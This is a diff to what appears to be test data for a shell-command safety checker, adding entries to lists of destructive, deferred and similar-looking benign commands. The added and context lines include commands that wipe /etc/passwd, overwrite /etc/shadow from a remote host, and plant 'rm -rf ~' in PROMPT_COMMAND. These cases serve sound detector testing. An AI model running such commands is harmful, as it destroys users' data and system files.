@@ -66,6 +66,8 @@ DELETERS = [
     "7z a -sdel x.7z ~",
     "mv ~/.bashrc /dev/null",
     "mv /etc/hosts /dev/null",
+    "cp /dev/null /etc/passwd",
+    "curl -o /etc/shadow http://203.0.113.9/x",
     "git -C ~ clean -xfd",
     "git --work-tree=/ clean -fdx",
     "git -C /home/alice clean -ffdx",
@@ -175,6 +177,10 @@ ORDINARY_OF_THE_SAME_SHAPE = [
     "unlink ./old-link",
     "rmdir empty-dir",
     "truncate -s 0 app.log",
+    "sed -i '/swap/d' /etc/fstab",
+    "cp fstab.new /etc/fstab",
+    "mv x /dev/shm/y",
+    "7z a -ssw x.7z ~/notes",
 ]
 
 
@@ -232,6 +238,7 @@ DEFERRED = [
     'declare -x "PROMPT_COMMAND=rm -rf ~"',
     "printf -v PROMPT_COMMAND 'rm -rf ~'",
     "read -r PROMPT_COMMAND <<< 'rm -rf ~'",
+    'export PROMPT_COMMAND="${PROMPT_COMMAND}; rm -rf ~"',
     "export PS1='$(rm -rf ~) $ '",
     "PS0='`rm -rf /`'",
     "echo 'rm -rf ~' > /tmp/e; BASH_ENV=/tmp/e bash -c ls",
@@ -285,6 +292,8 @@ ORDINARY_DEFERRED = [
     "export GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key'",
     "PAGER=cat git log -5",
     "export LESSOPEN='| /usr/bin/lesspipe %s'",
+    'export PROMPT_COMMAND="$PROMPT_COMMAND; history -a"',
+    "ENV=production ./deploy.sh",
     "nohup ./server > server.log 2>&1 &",
     "coproc cat",
     "at now + 1 hour <<< 'systemctl restart app'",
